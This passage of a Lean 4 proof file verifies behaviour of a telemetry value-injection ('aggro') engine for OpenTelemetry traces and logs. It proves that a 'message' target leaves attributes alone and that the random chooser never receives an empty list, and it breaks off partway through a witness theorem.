theorem selects_of_only_key (config : AggroConfig) (g : Rng) (c : Category) (k : GoString)
    (hact : config.active c = true) (htgt : config.target c = []) :
    selects config [k] g c k := by
  refine ⟨(traceFires_iff config [k] c).mpr ⟨hact, by simp, Or.inl htgt⟩, ?_⟩
  unfold chosenTarget
  rw [if_pos htgt]
  simp [pick, Nat.mod_one]

/-- C30: in `ApplyAggroToLogAttributes`, whenever the chosen target is "message"
the body is replaced and the attributes are left alone. For the helper
`applyAggroToLogAttributes` called with a non-empty corpus: an explicit target
"message" is found for every attribute list and skip list, and whenever the
target it reports is "message", chosen explicitly or at random, the message is
an entry of the corpus and the attributes are the ones it was given, an
attribute keyed "message" among them. For the public method: an attribute
keyed "message" is returned unchanged by every call, and an active category
with the explicit target "message" always reports "message" in the
metadata. -/
theorem message_target_leaves_attributes_alone {T α : Type} (env : Env T)
    (config : AggroConfig) (attrs : List (KeyValue α)) (logMessage : GoString)
    (values : List GoString) (target : GoString) (skipKeys : List GoString)
    (protocol : GoString) (g : Rng) (hv : values ≠ []) :
    (target = lit "message" →
      (applyAggroToLogAttributes attrs logMessage values target skipKeys g).modified = true ∧
      (applyAggroToLogAttributes attrs logMessage values target skipKeys g).targetKey =
        lit "message") ∧
    ((applyAggroToLogAttributes attrs logMessage values target skipKeys g).modified = true →
      (applyAggroToLogAttributes attrs logMessage values target skipKeys g).targetKey =
        lit "message" →
      (applyAggroToLogAttributes attrs logMessage values target skipKeys g).attrs = attrs ∧
      (applyAggroToLogAttributes attrs logMessage values target skipKeys g).logMessage ∈
        values) ∧
    (∀ (i : Nat) (a : KeyValue α), attrs[i]? = some a → a.Key = lit "message" →
      (ApplyAggroToLogAttributes env config attrs logMessage skipKeys protocol g).attrs[i]? =
        some a) ∧
    (∀ c : Category, config.active c = true → config.target c = lit "message" →
      otellogString c.metaKey (lit "message") ∈
        (ApplyAggroToLogAttributes env config attrs logMessage skipKeys protocol g).metadata) := by
  have hmsg : ¬ lit "message" = [] := by decide
  obtain ⟨k, v, hmod, hkey, hres, hin⟩ :=
    applyAggroToLogAttributes_spec attrs logMessage values target skipKeys g hv
  refine ⟨?_, ?_, ?_, ?_⟩
  · intro ht
    have hm : (applyAggroToLogAttributes attrs logMessage values target skipKeys g).modified =
        true := by
      rw [hmod, ht]
      simp
    refine ⟨hm, ?_⟩
    rw [hkey, hm, if_pos rfl, (hin hm).2.1 (by rw [ht]; exact hmsg), ht]
  · intro hm ht
    rw [hkey, hm, if_pos rfl] at ht
    rw [hm, if_pos rfl, ht] at hres
    simp only [logInject, if_true] at hres
    have h1 := congrArg Prod.fst hres
    have h2 := congrArg Prod.snd hres
    simp only at h1 h2
    exact ⟨h1, by rw [h2]; exact (hin hm).2.2⟩
  · intro i a ha hak
    obtain ⟨k, v, _, _, hattrs⟩ := log_master env config attrs logMessage skipKeys protocol g
    have h := congrArg Prod.fst hattrs
    simp only at h
    rw [h]
    apply foldl_logInject_getElem? k v _ (attrs, logMessage) i a ha
    intro c _
    by_cases hc : k c = lit "message"
    · exact Or.inl hc
    · exact Or.inr (by rw [hak]; exact fun e => hc e.symm)
  · intro c hact htgt
    obtain ⟨k, v, hk, hmeta, _⟩ := log_master env config attrs logMessage skipKeys protocol g
    have hf : logFires config (availableTraceKeys attrs skipKeys) c = true := by
      rw [logFires_iff]
      exact ⟨hact, Or.inr (by rw [htgt]; exact List.mem_cons_self _ _)⟩
    rw [hmeta]
    have hkc : k c = lit "message" := by
      rw [(hk c hf).2.1 (by rw [htgt]; exact hmsg), htgt]
    rw [← hkc]
    exact List.mem_map.mpr ⟨c, List.mem_filter.mpr ⟨mem_order c, hf⟩, rfl⟩

/-- C30 on a record with an attribute keyed "message", which is on the skip list
as well. -/
theorem message_target_leaves_attributes_alone_witness :
    ((applyAggroToLogAttributes
        ([⟨lit "message", Value.string (lit "old")⟩] : List (KeyValue Unit))
        (lit "example-log-1") [lit "v0", lit "v1"] (lit "message") [lit "message"]
        (constRng 1)).modified = true ∧
      (applyAggroToLogAttributes
        ([⟨lit "message", Value.string (lit "old")⟩] : List (KeyValue Unit))
        (lit "example-log-1") [lit "v0", lit "v1"] (lit "message") [lit "message"]
        (constRng 1)).targetKey = lit "message") ∧
    ((applyAggroToLogAttributes
        ([⟨lit "message", Value.string (lit "old")⟩] : List (KeyValue Unit))
        (lit "example-log-1") [lit "v0", lit "v1"] (lit "message") [lit "message"]
        (constRng 1)).attrs = [⟨lit "message", Value.string (lit "old")⟩] ∧
      (applyAggroToLogAttributes
        ([⟨lit "message", Value.string (lit "old")⟩] : List (KeyValue Unit))
        (lit "example-log-1") [lit "v0", lit "v1"] (lit "message") [lit "message"]
        (constRng 1)).logMessage ∈ [lit "v0", lit "v1"]) :=
  ⟨(message_target_leaves_attributes_alone sampleEnv (configOnly .string (lit "message"))
      ([⟨lit "message", Value.string (lit "old")⟩] : List (KeyValue Unit))
      (lit "example-log-1") [lit "v0", lit "v1"] (lit "message") [lit "message"] (lit "grpc")
      (constRng 1) (by decide)).1 rfl,
   (message_target_leaves_attributes_alone sampleEnv (configOnly .string (lit "message"))
      ([⟨lit "message", Value.string (lit "old")⟩] : List (KeyValue Unit))
      (lit "example-log-1") [lit "v0", lit "v1"] (lit "message") [lit "message"] (lit "grpc")
      (constRng 1) (by decide)).2.1 (by decide) (by decide)⟩

/-! ## Lemmas: the engine over any chooser -/

theorem ne_nil_of_length_ne_zero {β : Type} (l : List β) (h : ¬ l.length = 0) : l ≠ [] := by
  intro e
  exact h (by rw [e]; rfl)

theorem applyAggroToTraceAttributesWith_RandomChoice {α : Type} (attrs : List (KeyValue α))
    (values : List GoString) (target : GoString) (skipKeys : List GoString) (g : Rng) :
    applyAggroToTraceAttributesWith RandomChoice attrs values target skipKeys g =
      ⟨(applyAggroToTraceAttributes attrs values target skipKeys g).attrs,
       (applyAggroToTraceAttributes attrs values target skipKeys g).targetKey,
       (applyAggroToTraceAttributes attrs values target skipKeys g).modified,
       (applyAggroToTraceAttributes attrs values target skipKeys g).rng⟩ := by
  unfold applyAggroToTraceAttributesWith applyAggroToTraceAttributes
  simp only
  split
  · rfl
  · split
    · split <;> rfl
    · rfl

theorem traceBlockWith_RandomChoice {α : Type} (values : List GoString)
    (name target : GoString) (active : Bool) (skipKeys : List GoString) (s : TraceResult α) :
    traceBlockWith RandomChoice values name target active skipKeys
        ⟨s.attrs, s.metadata, s.rng⟩ =
      ⟨(tracePhase values name target active skipKeys s).attrs,
       (tracePhase values name target active skipKeys s).metadata,
       (tracePhase values name target active skipKeys s).rng⟩ := by
  unfold traceBlockWith tracePhase
  simp only [applyAggroToTraceAttributesWith_RandomChoice]
  split
  · split
    · split <;> rfl
    · rfl
  · rfl

theorem applyLogValueWith_RandomChoice {α : Type} (attrs : List (KeyValue α))
    (logMessage : GoString) (values : List GoString) (targetKey : GoString) (g : Rng) :
    applyLogValueWith RandomChoice attrs logMessage values targetKey g =
      ⟨(applyLogValue attrs logMessage values targetKey g).attrs,
       (applyLogValue attrs logMessage values targetKey g).logMessage,
       (applyLogValue attrs logMessage values targetKey g).targetKey,
       (applyLogValue attrs logMessage values targetKey g).modified,
       (applyLogValue attrs logMessage values targetKey g).rng⟩ := by
  unfold applyLogValueWith applyLogValue
  simp only
  split <;> rfl

theorem applyAggroToLogAttributesWith_RandomChoice {α : Type} (attrs : List (KeyValue α))
    (logMessage : GoString) (values : List GoString) (target : GoString)
    (skipKeys : List GoString) (g : Rng) :
    applyAggroToLogAttributesWith RandomChoice attrs logMessage values target skipKeys g =
      ⟨(applyAggroToLogAttributes attrs logMessage values target skipKeys g).attrs,
       (applyAggroToLogAttributes attrs logMessage values target skipKeys g).logMessage,
       (applyAggroToLogAttributes attrs logMessage values target skipKeys g).targetKey,
       (applyAggroToLogAttributes attrs logMessage values target skipKeys g).modified,
       (applyAggroToLogAttributes attrs logMessage values target skipKeys g).rng⟩ := by
  unfold applyAggroToLogAttributesWith applyAggroToLogAttributes
  simp only [applyLogValueWith_RandomChoice]
  split
  · rfl
  · split
    · split <;> rfl
    · rfl

theorem logBlockWith_RandomChoice {α : Type} (values : List GoString)
    (name target : GoString) (active : Bool) (skipKeys : List GoString) (s : LogResult α) :
    logBlockWith RandomChoice values name target active skipKeys
        ⟨s.attrs, s.message, s.metadata, s.rng⟩ =
      ⟨(logPhase values name target active skipKeys s).attrs,
       (logPhase values name target active skipKeys s).message,
       (logPhase values name target active skipKeys s).metadata,
       (logPhase values name target active skipKeys s).rng⟩ := by
  unfold logBlockWith logPhase
  simp only [applyAggroToLogAttributesWith_RandomChoice]
  split
  · split
    · split <;> rfl
    · rfl
  · rfl

theorem GetAggroTimestampsRun_of_zonesLoad {T : Type} (env : Env T) (h : zonesLoad env) :
    GetAggroTimestampsRun env = some (GetAggroTimestamps env) := by
  unfold GetAggroTimestampsRun
  exact if_pos h

theorem GetAggroTimestampsRun_of_not_zonesLoad {T : Type} (env : Env T) (h : ¬ zonesLoad env) :
    GetAggroTimestampsRun env = none := by
  unfold GetAggroTimestampsRun
  exact if_neg h

theorem GetAggroTimestampsRun_eq_some {T : Type} (env : Env T) (ts : List T)
    (h : GetAggroTimestampsRun env = some ts) : ts = GetAggroTimestamps env := by
  unfold GetAggroTimestampsRun at h
  split at h
  · exact (Option.some.inj h).symm
  · exact absurd h (by simp)


theorem trace_run_returns {T α : Type} (env : Env T) (config : AggroConfig)
    (attrs : List (KeyValue α)) (skipKeys : List GoString) (protocol : GoString) (g : Rng)
    (h : config.TimestampActive = true → zonesLoad env) :
    ApplyAggroToTraceAttributesWith RandomChoice env config attrs skipKeys protocol g =
      ⟨some ((ApplyAggroToTraceAttributes env config attrs skipKeys protocol g).attrs,
        (ApplyAggroToTraceAttributes env config attrs skipKeys protocol g).metadata),
       (ApplyAggroToTraceAttributes env config attrs skipKeys protocol g).rng⟩ := by
  have hts : appendTimestampValues env [] (GetAggroTimestamps env) =
      categoryValues env protocol .timestamp := by
    rw [appendTimestampValues_eq]; simp [categoryValues]
  have hstr : (if protocol = lit "grpc" then (GetAggroStrings env).map sanitizeForGRPC
      else GetAggroStrings env) = categoryValues env protocol .string := rfl
  have hnum : GetAggroNumerics env = categoryValues env protocol .numeric := rfl
  rw [ApplyAggroToTraceAttributes_eq_phases]
  unfold ApplyAggroToTraceAttributesWith
  simp only [hstr, hnum]
  have b1 := traceBlockWith_RandomChoice (categoryValues env protocol .string)
    (lit "aggro.string") config.StringTarget config.StringActive skipKeys ⟨attrs, [], g⟩
  simp only at b1
  rw [b1]
  have b2 := traceBlockWith_RandomChoice (categoryValues env protocol .numeric)
    (lit "aggro.numeric") config.NumericTarget config.NumericActive skipKeys
    (tracePhase (categoryValues env protocol .string) (lit "aggro.string") config.StringTarget
      config.StringActive skipKeys ⟨attrs, [], g⟩)
  rw [b2]
  cases hT : config.TimestampActive with
  | false =>
    cases hS : config.StringActive <;> cases hN : config.NumericActive <;>
      simp [AggroConfig.HasAnyActive, AggroConfig.active, AggroConfig.target, tracePhase,
        hS, hN, hT, Category.metaKey]
  | true =>
    rw [GetAggroTimestampsRun_of_zonesLoad env (h hT)]
    simp only [hts]
    have b3 := traceBlockWith_RandomChoice (categoryValues env protocol .timestamp)
      (lit "aggro.timestamp") config.TimestampTarget true skipKeys
      (tracePhase (categoryValues env protocol .numeric) (lit "aggro.numeric")
        config.NumericTarget config.NumericActive skipKeys
        (tracePhase (categoryValues env protocol .string) (lit "aggro.string")
          config.StringTarget config.StringActive skipKeys ⟨attrs, [], g⟩))
    rw [b3]
    simp [AggroConfig.HasAnyActive, AggroConfig.active, AggroConfig.target, hT,
      Category.metaKey]

theorem trace_run_panics {T α σ : Type} (choose : List GoString → σ → GoString × σ)
    (env : Env T) (config : AggroConfig)
    (attrs : List (KeyValue α)) (skipKeys : List GoString) (protocol : GoString) (s : σ)
    (hT : config.TimestampActive = true) (hz : ¬ zonesLoad env) :
    (ApplyAggroToTraceAttributesWith choose env config attrs skipKeys protocol s).result =
      none := by
  unfold ApplyAggroToTraceAttributesWith
  simp [AggroConfig.HasAnyActive, hT, GetAggroTimestampsRun_of_not_zonesLoad env hz]

theorem log_run_returns {T α : Type} (env : Env T) (config : AggroConfig)
    (attrs : List (KeyValue α)) (logMessage : GoString) (skipKeys : List GoString)
    (protocol : GoString) (g : Rng)
    (h : config.TimestampActive = true → zonesLoad env) :
    ApplyAggroToLogAttributesWith RandomChoice env config attrs logMessage skipKeys protocol g =
      ⟨some ((ApplyAggroToLogAttributes env config attrs logMessage skipKeys protocol g).attrs,
        (ApplyAggroToLogAttributes env config attrs logMessage skipKeys protocol g).message,
        (ApplyAggroToLogAttributes env config attrs logMessage skipKeys protocol g).metadata),
       (ApplyAggroToLogAttributes env config attrs logMessage skipKeys protocol g).rng⟩ := by
  have hts : appendTimestampValues env [] (GetAggroTimestamps env) =
      categoryValues env protocol .timestamp := by
    rw [appendTimestampValues_eq]; simp [categoryValues]
  have hstr : (if protocol = lit "grpc" then (GetAggroStrings env).map sanitizeForGRPC
      else GetAggroStrings env) = categoryValues env protocol .string := rfl
  have hnum : GetAggroNumerics env = categoryValues env protocol .numeric := rfl
  rw [ApplyAggroToLogAttributes_eq_phases]
  unfold ApplyAggroToLogAttributesWith
  simp only [hstr, hnum]
  have b1 := logBlockWith_RandomChoice (categoryValues env protocol .string)
    (lit "aggro.string") config.StringTarget config.StringActive skipKeys
    ⟨attrs, logMessage, [], g⟩
  simp only at b1
  rw [b1]
  have b2 := logBlockWith_RandomChoice (categoryValues env protocol .numeric)
    (lit "aggro.numeric") config.NumericTarget config.NumericActive skipKeys
    (logPhase (categoryValues env protocol .string) (lit "aggro.string") config.StringTarget
      config.StringActive skipKeys ⟨attrs, logMessage, [], g⟩)
  rw [b2]
  cases hT : config.TimestampActive with
  | false =>
    cases hS : config.StringActive <;> cases hN : config.NumericActive <;>
      simp [AggroConfig.HasAnyActive, AggroConfig.active, AggroConfig.target, logPhase,
        hS, hN, hT, Category.metaKey]
  | true =>
    rw [GetAggroTimestampsRun_of_zonesLoad env (h hT)]
    simp only [hts]
    have b3 := logBlockWith_RandomChoice (categoryValues env protocol .timestamp)
      (lit "aggro.timestamp") config.TimestampTarget true skipKeys
      (logPhase (categoryValues env protocol .numeric) (lit "aggro.numeric")
        config.NumericTarget config.NumericActive skipKeys
        (logPhase (categoryValues env protocol .string) (lit "aggro.string")
          config.StringTarget config.StringActive skipKeys ⟨attrs, logMessage, [], g⟩))
    rw [b3]
    simp [AggroConfig.HasAnyActive, AggroConfig.active, AggroConfig.target, hT,
      Category.metaKey]

theorem log_run_panics {T α σ : Type} (choose : List GoString → σ → GoString × σ)
    (env : Env T) (config : AggroConfig)
    (attrs : List (KeyValue α)) (logMessage : GoString) (skipKeys : List GoString)
    (protocol : GoString) (s : σ)
    (hT : config.TimestampActive = true) (hz : ¬ zonesLoad env) :
    (ApplyAggroToLogAttributesWith choose env config attrs logMessage skipKeys protocol
      s).result = none := by
  unfold ApplyAggroToLogAttributesWith
  simp [AggroConfig.HasAnyActive, hT, GetAggroTimestampsRun_of_not_zonesLoad env hz]


/-! ## Lemmas: the record of the calls of the chooser -/

theorem applyAggroToTraceAttributesWith_recording {α σ : Type}
    (choose : List GoString → σ → GoString × σ) (attrs : List (KeyValue α))
    (values : List GoString) (target : GoString) (skipKeys : List GoString) (s : σ)
    (log : List (List GoString)) (hv : values ≠ []) :
    ∃ calls : List (List GoString), (∀ l ∈ calls, l ≠ []) ∧
      applyAggroToTraceAttributesWith (recording choose) attrs values target skipKeys (s, log) =
        ⟨(applyAggroToTraceAttributesWith choose attrs values target skipKeys s).attrs,
         (applyAggroToTraceAttributesWith choose attrs values target skipKeys s).targetKey,
         (applyAggroToTraceAttributesWith choose attrs values target skipKeys s).modified,
         ((applyAggroToTraceAttributesWith choose attrs values target skipKeys s).state,
           log ++ calls)⟩ := by
  unfold applyAggroToTraceAttributesWith
  simp only
  split
  · exact ⟨[], by simp, by simp⟩
  · rename_i hlen
    split
    · split
      · exact ⟨[], by simp, by simp⟩
      · exact ⟨[values], by simpa using hv, by simp [recording]⟩
    · refine ⟨[availableTraceKeys attrs skipKeys, values], ?_, by simp [recording]⟩
      intro l hl
      simp only [List.mem_cons, List.mem_singleton, List.not_mem_nil, or_false] at hl
      rcases hl with hl | hl
      · rw [hl]
        exact ne_nil_of_length_ne_zero _ hlen
      · rw [hl]
        exact hv

theorem traceBlockWith_recording {α σ : Type}
    (choose : List GoString → σ → GoString × σ) (values : List GoString)
    (name target : GoString) (active : Bool) (skipKeys : List GoString)
    (st : TraceStateWith α σ) (log : List (List GoString)) :
    ∃ calls : List (List GoString), (∀ l ∈ calls, l ≠ []) ∧
      traceBlockWith (recording choose) values name target active skipKeys
          ⟨st.attrs, st.metadata, (st.state, log)⟩ =
        ⟨(traceBlockWith choose values name target active skipKeys st).attrs,
         (traceBlockWith choose values name target active skipKeys st).metadata,
         ((traceBlockWith choose values name target active skipKeys st).state,
           log ++ calls)⟩ := by
  unfold traceBlockWith
  split
  · split
    · rename_i hlen
      obtain ⟨calls, hne, heq⟩ := applyAggroToTraceAttributesWith_recording choose st.attrs
        values target skipKeys st.state log (List.length_pos.mp hlen)
      refine ⟨calls, hne, ?_⟩
      simp only [heq]
      split <;> rfl
    · exact ⟨[], by simp, by simp⟩
  · exact ⟨[], by simp, by simp⟩

theorem trace_run_recording {T α σ : Type} (choose : List GoString → σ → GoString × σ)
    (env : Env T) (config : AggroConfig) (attrs : List (KeyValue α))
    (skipKeys : List GoString) (protocol : GoString) (s : σ) :
    ∃ calls : List (List GoString), (∀ l ∈ calls, l ≠ []) ∧
      ApplyAggroToTraceAttributesWith (recording choose) env config attrs skipKeys protocol
          (s, []) =
        ⟨(ApplyAggroToTraceAttributesWith choose env config attrs skipKeys protocol s).result,
         ((ApplyAggroToTraceAttributesWith choose env config attrs skipKeys protocol s).state,
           calls)⟩ := by
  unfold ApplyAggroToTraceAttributesWith
  split
  · exact ⟨[], by simp, rfl⟩
  · simp only
    obtain ⟨c1, h1, e1⟩ := traceBlockWith_recording choose
      (if protocol = lit "grpc" then (GetAggroStrings env).map sanitizeForGRPC
        else GetAggroStrings env)
      (lit "aggro.string") config.StringTarget config.StringActive skipKeys ⟨attrs, [], s⟩ []
    simp only [List.nil_append] at e1
    rw [e1]
    obtain ⟨c2, h2, e2⟩ := traceBlockWith_recording choose (GetAggroNumerics env)
      (lit "aggro.numeric") config.NumericTarget config.NumericActive skipKeys
      (traceBlockWith choose
        (if protocol = lit "grpc" then (GetAggroStrings env).map sanitizeForGRPC
          else GetAggroStrings env)
        (lit "aggro.string") config.StringTarget config.StringActive skipKeys ⟨attrs, [], s⟩) c1
    rw [e2]
    have h12 : ∀ l ∈ c1 ++ c2, l ≠ [] := by
      intro l hl
      rcases List.mem_append.mp hl with h | h
      · exact h1 l h
      · exact h2 l h
    split
    · cases hrun : GetAggroTimestampsRun env with
      | none => exact ⟨c1 ++ c2, h12, rfl⟩
      | some timestamps =>
        simp only
        obtain ⟨c3, h3, e3⟩ := traceBlockWith_recording choose
          (appendTimestampValues env [] timestamps) (lit "aggro.timestamp")
          config.TimestampTarget true skipKeys
          (traceBlockWith choose (GetAggroNumerics env)
            (lit "aggro.numeric") config.NumericTarget config.NumericActive skipKeys
            (traceBlockWith choose
              (if protocol = lit "grpc" then (GetAggroStrings env).map sanitizeForGRPC
                else GetAggroStrings env)
              (lit "aggro.string") config.StringTarget config.StringActive skipKeys
              ⟨attrs, [], s⟩)) (c1 ++ c2)
        rw [e3]
        refine ⟨c1 ++ c2 ++ c3, ?_, rfl⟩
        intro l hl
        rcases List.mem_append.mp hl with h | h
        · exact h12 l h
        · exact h3 l h
    · exact ⟨c1 ++ c2, h12, rfl⟩


theorem applyLogValueWith_recording {α σ : Type}
    (choose : List GoString → σ → GoString × σ) (attrs : List (KeyValue α))
    (logMessage : GoString) (values : List GoString) (targetKey : GoString) (s : σ)
    (log : List (List GoString)) :
    applyLogValueWith (recording choose) attrs logMessage values targetKey (s, log) =
      ⟨(applyLogValueWith choose attrs logMessage values targetKey s).attrs,
       (applyLogValueWith choose attrs logMessage values targetKey s).logMessage,
       (applyLogValueWith choose attrs logMessage values targetKey s).targetKey,
       (applyLogValueWith choose attrs logMessage values targetKey s).modified,
       ((applyLogValueWith choose attrs logMessage values targetKey s).state,
         log ++ [values])⟩ := by
  unfold applyLogValueWith
  simp only
  split <;> rfl

theorem applyAggroToLogAttributesWith_recording {α σ : Type}
    (choose : List GoString → σ → GoString × σ) (attrs : List (KeyValue α))
    (logMessage : GoString) (values : List GoString) (target : GoString)
    (skipKeys : List GoString) (s : σ) (log : List (List GoString)) (hv : values ≠ []) :
    ∃ calls : List (List GoString), (∀ l ∈ calls, l ≠ []) ∧
      applyAggroToLogAttributesWith (recording choose) attrs logMessage values target skipKeys
          (s, log) =
        ⟨(applyAggroToLogAttributesWith choose attrs logMessage values target skipKeys s).attrs,
         (applyAggroToLogAttributesWith choose attrs logMessage values target skipKeys
           s).logMessage,
         (applyAggroToLogAttributesWith choose attrs logMessage values target skipKeys
           s).targetKey,
         (applyAggroToLogAttributesWith choose attrs logMessage values target skipKeys
           s).modified,
         ((applyAggroToLogAttributesWith choose attrs logMessage values target skipKeys
           s).state, log ++ calls)⟩ := by
  unfold applyAggroToLogAttributesWith
  simp only
  split
  · exact ⟨[], by simp, by simp⟩
  · rename_i hlen
    split
    · split
      · exact ⟨[], by simp, by simp⟩
      · exact ⟨[values], by simpa using hv, by rw [applyLogValueWith_recording]⟩
    · refine ⟨[appendLogKeys ([] ++ [lit "message"]) attrs skipKeys, values], ?_, ?_⟩
      · intro l hl
        simp only [List.mem_cons, List.mem_singleton, List.not_mem_nil, or_false] at hl
        rcases hl with hl | hl
        · rw [hl]
          exact ne_nil_of_length_ne_zero _ hlen
        · rw [hl]
          exact hv
      · simp only [recording]
        rw [applyLogValueWith_recording]
        simp

theorem logBlockWith_recording {α σ : Type}
    (choose : List GoString → σ → GoString × σ) (values : List GoString)
    (name target : GoString) (active : Bool) (skipKeys : List GoString)
    (st : LogStateWith α σ) (log : List (List GoString)) :
    ∃ calls : List (List GoString), (∀ l ∈ calls, l ≠ []) ∧
      logBlockWith (recording choose) values name target active skipKeys
          ⟨st.attrs, st.message, st.metadata, (st.state, log)⟩ =
        ⟨(logBlockWith choose values name target active skipKeys st).attrs,
         (logBlockWith choose values name target active skipKeys st).message,
         (logBlockWith choose values name target active skipKeys st).metadata,
         ((logBlockWith choose values name target active skipKeys st).state,
           log ++ calls)⟩ := by
  unfold logBlockWith
  split
  · split
    · rename_i hlen
      obtain ⟨calls, hne, heq⟩ := applyAggroToLogAttributesWith_recording choose st.attrs
        st.message values target skipKeys st.state log (List.length_pos.mp hlen)
      refine ⟨calls, hne, ?_⟩
      simp only [heq]
      split <;> rfl
    · exact ⟨[], by simp, by simp⟩
  · exact ⟨[], by simp, by simp⟩

theorem log_run_recording {T α σ : Type} (choose : List GoString → σ → GoString × σ)
    (env : Env T) (config : AggroConfig) (attrs : List (KeyValue α)) (logMessage : GoString)
    (skipKeys : List GoString) (protocol : GoString) (s : σ) :
    ∃ calls : List (List GoString), (∀ l ∈ calls, l ≠ []) ∧
      ApplyAggroToLogAttributesWith (recording choose) env config attrs logMessage skipKeys
          protocol (s, []) =
        ⟨(ApplyAggroToLogAttributesWith choose env config attrs logMessage skipKeys protocol
           s).result,
         ((ApplyAggroToLogAttributesWith choose env config attrs logMessage skipKeys protocol
           s).state, calls)⟩ := by
  unfold ApplyAggroToLogAttributesWith
  split
  · exact ⟨[], by simp, rfl⟩
  · simp only
    obtain ⟨c1, h1, e1⟩ := logBlockWith_recording choose
      (if protocol = lit "grpc" then (GetAggroStrings env).map sanitizeForGRPC
        else GetAggroStrings env)
      (lit "aggro.string") config.StringTarget config.StringActive skipKeys
      ⟨attrs, logMessage, [], s⟩ []
    simp only [List.nil_append] at e1
    rw [e1]
    obtain ⟨c2, h2, e2⟩ := logBlockWith_recording choose (GetAggroNumerics env)
      (lit "aggro.numeric") config.NumericTarget config.NumericActive skipKeys
      (logBlockWith choose
        (if protocol = lit "grpc" then (GetAggroStrings env).map sanitizeForGRPC
          else GetAggroStrings env)
        (lit "aggro.string") config.StringTarget config.StringActive skipKeys
        ⟨attrs, logMessage, [], s⟩) c1
    rw [e2]
    have h12 : ∀ l ∈ c1 ++ c2, l ≠ [] := by
      intro l hl
      rcases List.mem_append.mp hl with h | h
      · exact h1 l h
      · exact h2 l h
    split
    · cases hrun : GetAggroTimestampsRun env with
      | none => exact ⟨c1 ++ c2, h12, rfl⟩
      | some timestamps =>
        simp only
        obtain ⟨c3, h3, e3⟩ := logBlockWith_recording choose
          (appendTimestampValues env [] timestamps) (lit "aggro.timestamp")
          config.TimestampTarget true skipKeys
          (logBlockWith choose (GetAggroNumerics env)
            (lit "aggro.numeric") config.NumericTarget config.NumericActive skipKeys
            (logBlockWith choose
              (if protocol = lit "grpc" then (GetAggroStrings env).map sanitizeForGRPC
                else GetAggroStrings env)
              (lit "aggro.string") config.StringTarget config.StringActive skipKeys
              ⟨attrs, logMessage, [], s⟩)) (c1 ++ c2)
        rw [e3]
        refine ⟨c1 ++ c2 ++ c3, ?_, rfl⟩
        intro l hl
        rcases List.mem_append.mp hl with h | h
        · exact h12 l h
        · exact h3 l h
    · exact ⟨c1 ++ c2, h12, rfl⟩

/-- C27: in `ApplyAggroToTraceAttributes` and `ApplyAggroToLogAttributes` the
random chooser is never called on an empty list. The two methods are run with
`RandomChoice` replaced by a chooser that chooses as `RandomChoice` does and
records the list of every call: no list of the record is empty (the available
keys are passed only when there is one, the values only when the corpus has an
entry), also in a run that panics while the timestamp corpus is built. The
record changes nothing: the run has the results and the random source of the
run with `RandomChoice`, which, when it returns, has the results of the
method. The string corpus, raw or sanitized and for every content of the
embedded catalog, and the numeric corpus are non-empty, and so is the expanded
timestamp corpus whenever `GetAggroTimestamps` returns, so the branch for an
empty corpus is never taken. -/
theorem chooser_is_never_called_on_empty_list {T α : Type} (env : Env T) (config : AggroConfig)
    (attrs : List (KeyValue α)) (logMessage : GoString) (skipKeys : List GoString)
    (protocol : GoString) (g : Rng) :
    ((∀ l ∈ (ApplyAggroToTraceAttributesWith (recording RandomChoice) env config attrs skipKeys
        protocol (g, [])).state.2, l ≠ []) ∧
      (ApplyAggroToTraceAttributesWith (recording RandomChoice) env config attrs skipKeys
        protocol (g, [])).result =
        (ApplyAggroToTraceAttributesWith RandomChoice env config attrs skipKeys protocol
          g).result ∧
      (ApplyAggroToTraceAttributesWith (recording RandomChoice) env config attrs skipKeys
        protocol (g, [])).state.1 =
        (ApplyAggroToTraceAttributesWith RandomChoice env config attrs skipKeys protocol
          g).state ∧
      ((ApplyAggroToTraceAttributesWith RandomChoice env config attrs skipKeys protocol
          g).result ≠ none →
        ApplyAggroToTraceAttributesWith RandomChoice env config attrs skipKeys protocol g =
          ⟨some ((ApplyAggroToTraceAttributes env config attrs skipKeys protocol g).attrs,
            (ApplyAggroToTraceAttributes env config attrs skipKeys protocol g).metadata),
           (ApplyAggroToTraceAttributes env config attrs skipKeys protocol g).rng⟩)) ∧
    ((∀ l ∈ (ApplyAggroToLogAttributesWith (recording RandomChoice) env config attrs
        logMessage skipKeys protocol (g, [])).state.2, l ≠ []) ∧
      (ApplyAggroToLogAttributesWith (recording RandomChoice) env config attrs logMessage
        skipKeys protocol (g, [])).result =
        (ApplyAggroToLogAttributesWith RandomChoice env config attrs logMessage skipKeys
          protocol g).result ∧
      (ApplyAggroToLogAttributesWith (recording RandomChoice) env config attrs logMessage
        skipKeys protocol (g, [])).state.1 =
        (ApplyAggroToLogAttributesWith RandomChoice env config attrs logMessage skipKeys
          protocol g).state ∧
      ((ApplyAggroToLogAttributesWith RandomChoice env config attrs logMessage skipKeys
          protocol g).result ≠ none →
        ApplyAggroToLogAttributesWith RandomChoice env config attrs logMessage skipKeys
            protocol g =
          ⟨some ((ApplyAggroToLogAttributes env config attrs logMessage skipKeys protocol
              g).attrs,
            (ApplyAggroToLogAttributes env config attrs logMessage skipKeys protocol
              g).message,
            (ApplyAggroToLogAttributes env config attrs logMessage skipKeys protocol
              g).metadata),
           (ApplyAggroToLogAttributes env config attrs logMessage skipKeys protocol
             g).rng⟩)) ∧
    GetAggroStrings env ≠ [] ∧ (GetAggroStrings env).map sanitizeForGRPC ≠ [] ∧
    GetAggroNumerics env ≠ [] ∧
    (∀ timestamps, GetAggroTimestampsRun env = some timestamps →
      appendTimestampValues env [] timestamps ≠ []) := by
  obtain ⟨ct, hct, et⟩ := trace_run_recording RandomChoice env config attrs skipKeys protocol g
  obtain ⟨cl, hcl, el⟩ := log_run_recording RandomChoice env config attrs logMessage skipKeys
    protocol g
  refine ⟨⟨?_, ?_, ?_, ?_⟩, ⟨?_, ?_, ?_, ?_⟩, GetAggroStrings_ne_nil env, ?_,
    GetAggroNumerics_ne_nil env, ?_⟩
  · rw [et]
    exact hct
  · rw [et]
  · rw [et]
  · intro hret
    apply trace_run_returns
    intro hT
    by_contra hz
    exact hret (trace_run_panics RandomChoice env config attrs skipKeys protocol g hT hz)
  · rw [el]
    exact hcl
  · rw [el]
  · rw [el]
  · intro hret
    apply log_run_returns
    intro hT
    by_contra hz
    exact hret (log_run_panics RandomChoice env config attrs logMessage skipKeys protocol g
      hT hz)
  · intro h
    exact GetAggroStrings_ne_nil env (List.map_eq_nil_iff.mp h)
  · intro timestamps hts
    rw [GetAggroTimestampsRun_eq_some env timestamps hts]
    exact timestampValues_ne_nil env

/-- C27 on a span with the three categories active and random targeting: the
chooser is called six times, on the available keys and on the values of each
category. -/
theorem chooser_is_never_called_on_empty_list_witness :
